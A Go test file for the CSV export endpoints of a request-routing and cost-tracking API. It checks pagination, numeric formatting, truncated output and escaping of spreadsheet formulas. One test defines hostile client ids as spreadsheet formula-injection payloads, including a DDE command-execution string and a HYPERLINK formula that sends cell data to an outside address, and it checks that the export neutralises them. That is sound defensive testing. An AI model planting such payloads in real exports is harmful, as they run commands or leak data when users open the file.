package routes_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"

	"github.com/warmroute/warmroute/engine"
	"github.com/warmroute/warmroute/engine/inmem"
	"github.com/warmroute/warmroute/engine/storetest"
	"github.com/warmroute/warmroute/pricing"
	"github.com/warmroute/warmroute/routes"
)

// rows are the rows of a CSV answer, by column.
func (d desk) rows(path string) (names []string, rows []map[string]string) {
	d.t.Helper()
	status, header, body := d.get(path)
	if status != http.StatusOK || !strings.HasPrefix(header.Get("Content-Type"), "text/csv") || !strings.HasPrefix(header.Get("Content-Disposition"), `attachment; filename="warmroute-`) {
		d.t.Fatalf("%s: %d %v %s", path, status, header, body)
	}
	all, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil {
		d.t.Fatalf("%s: %v", path, err)
	}
	for _, cells := range all[1:] {
		row := map[string]string{}
		for i, name := range all[0] {
			row[name] = cells[i]
		}
		rows = append(rows, row)
	}
	return all[0], rows
}

// Item S21 of the reliability check list: ids that a spreadsheet would run.
func TestNoCellOfAClientIsAFormula(t *testing.T) {
	hostile := []string{
		`=cmd|' /C calc'!A0`, `=HYPERLINK("http://203.0.113.9/?x="&A1,"open")`, "+1+1", "-2+3", "@SUM(1+9)*cmd|' /C calc'!A0", "\tleft", "\rreturn", "\nfeed", "＝1+1",
		`quote"in,side`, "two\nlines", " =led by a space", "-0.01", "plain", "ünï", "\xff\xfe",
	}
	books := &inmem.Ledger{}
	c := shop(t)
	for i, id := range hostile {
		turn := sold(c, 0)
		turn.ID, turn.Started = fmt.Sprint(i), apiNow.Add(-time.Duration(i)*time.Second)
		turn.Session.ID, turn.Session.Client, turn.Tenant, turn.Session.Tenant = id, id, id, id
		books.Record(turn)
	}
	d := newDesk(t, routes.APIOptions{Books: books})
	for path, column := range map[string]string{"/api/v1/turns?format=csv": "session.id", "/api/v1/sessions?format=csv": "id"} {
		_, rows := d.rows(path)
		if len(rows) != len(hostile) {
			t.Fatalf("%s: %d rows", path, len(rows))
		}
		for _, row := range rows {
			for name, cell := range row {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") && !(name == "net_cache_saving") {
					t.Errorf("%s: %s is %q", path, name, cell)
				}
			}
		}
		for _, id := range hostile {
			want := strings.ReplaceAll(strings.ToValidUTF8(id, "\uFFFD"), "\r\n", "\n")
			found := slices.IndexFunc(rows, func(row map[string]string) bool { return row[column] == want || row[column] == "'"+want })
			if found < 0 || rows[found]["client"] != rows[found][column] {
				t.Errorf("%s: %q is not there: %q", path, id, rows)
			}
		}
		if slices.ContainsFunc(rows, func(row map[string]string) bool { return row[column] == "'plain" || row[column] == "' =led by a space" }) {
			t.Errorf("%s: harmless text is changed", path)
		}
	}
}

func TestNumbersOfACSVAreNumbers(t *testing.T) {
	books := &inmem.Ledger{}
	turn := spent(sold(shop(t), 0), "t", apiNow.Add(-time.Minute).Format(time.RFC3339), 3)
	turn.Attempts[0].Usage.Input, turn.Attempts[0].Usage.CacheWrite5m = 0, 1_000_000 // written above the input price
	turn.Attempts[0].Card.CacheWrite5m = pricing.PerMillion(decimal.NewFromInt(6))
	turn.Attempts[0].Cost = turn.Attempts[0].Card.Cost(turn.Attempts[0].Usage)
	books.Record(turn)
	d := newDesk(t, routes.APIOptions{Books: books})
	_, rows := d.rows("/api/v1/turns?format=csv")
	for name, want := range map[string]string{
		"sums.net_cache_saving": "-3", "sums.cost": "6", "started": "2026-11-20T11:59:30Z", "stream": "true", "took_ms": "2000", "sums.tokens.cache_write_5m": "1000000",
		"detail": "", "affinity.affinity_saving": "", "sums.vendor_charged.charged": "",
	} {
		if got, ok := rows[0][name]; !ok || got != want {
			t.Errorf("%s is %q, want %q", name, got, want)
		}
	}
	names, rows := d.rows("/api/v1/overview?format=csv&width=day&zone=Asia/Tokyo")
	if len(rows) != 1 || rows[0]["start"] != "2026-11-20T00:00:00+09:00" || rows[0]["net_cache_saving"] != "-3" || names[0] != "start" {
		t.Errorf("series: %v %v", names, rows)
	}
	if names, rows = d.rows("/api/v1/overview?format=csv&of=routes"); len(rows) != 1 || rows[0]["vendor"] != "pier" || names[1] != "vendor" {
		t.Errorf("routes: %v %v", names, rows)
	}
	if _, rows = d.rows("/api/v1/overview?format=csv&of=outcomes"); len(rows) != 1 || rows[0]["outcome"] != "promoted" {
		t.Errorf("outcomes: %v", rows)
	}
	if names, rows = d.rows("/api/v1/misses?format=csv"); len(rows) != 0 || names[0] != "id" {
		t.Errorf("misses: %v %v", names, rows)
	}
	if names, _ = d.rows("/api/v1/routes?format=csv"); !slices.Contains(names, "learned.token_hit_rate.rate") {
		t.Errorf("routes: %v", names)
	}
}

func TestACSVHasEveryPage(t *testing.T) {
	books := &inmem.Ledger{Max: 10_000}
	market := storetest.NewMarket()
	r := rand.New(rand.NewPCG(7, 7))
	for n := range 2345 {
		books.Record(market.Turn(r, n, apiNow.Add(-time.Duration(n)*time.Second)))
	}
	d := newDesk(t, routes.APIOptions{Books: books})
	_, rows := d.rows("/api/v1/turns?format=csv")
	var list struct {
		Turns []struct {
			ID   string
			Sums struct{ Cost *string }
		}
	}
	d.read("/api/v1/turns?limit=1000", &list)
	if len(rows) != 2345 {
		t.Fatalf("%d rows", len(rows))
	}
	for i, turn := range list.Turns {
		cost := ""
		if turn.Sums.Cost != nil {
			cost = *turn.Sums.Cost
		}
		if rows[i]["id"] != turn.ID || rows[i]["sums.cost"] != cost {
			t.Fatalf("row %d is %v, the list has %+v", i, rows[i], turn)
		}
	}
	response, err := http.Get(d.url + "/api/v1/turns?format=csv&limit=1500")
	if err != nil {
		t.Fatal(err)
	}
	defer response.Body.Close()
	if _, err := io.ReadAll(response.Body); err != nil {
		t.Fatal(err)
	}
	if _, rest := d.rows("/api/v1/turns?format=csv&after=" + response.Trailer.Get("Warmroute-Next")); len(rest) != 845 || rest[0]["id"] != rows[1500]["id"] {
		t.Errorf("%d rows follow", len(rest))
	}
}

// breaking are books that answer once.
type breaking struct {
	engine.Books
	asked int
}

func (b *breaking) Turns(ctx context.Context, q engine.Query, p engine.Page) ([]engine.Booked, string, error) {
	if b.asked++; b.asked > 1 {
		return nil, "", errors.New("the disk is gone")
	}
	return b.Books.Turns(ctx, q, p)
}

func TestACSVThatIsCutShortDoesNotLookWhole(t *testing.T) {
	books := &inmem.Ledger{Max: 10_000}
	market := storetest.NewMarket()
	r := rand.New(rand.NewPCG(7, 7))
	for n := range 1100 {
		books.Record(market.Turn(r, n, apiNow.Add(-time.Duration(n)*time.Second)))
	}
	d := newDesk(t, routes.APIOptions{Books: &breaking{Books: books}})
	response, err := http.Get(d.url + "/api/v1/turns?format=csv")
	if err != nil {
		t.Fatal(err)
	}
	defer response.Body.Close()
	if _, err := io.ReadAll(response.Body); err == nil {
		t.Error("the answer ends like a whole one")
	}
	if status, header, body := d.get("/api/v1/turns?format=csv"); status != 500 || header.Get("Content-Type") != "application/problem+json" || !json.Valid(body) {
		t.Errorf("%d %v %s", status, header, body)
	}
}
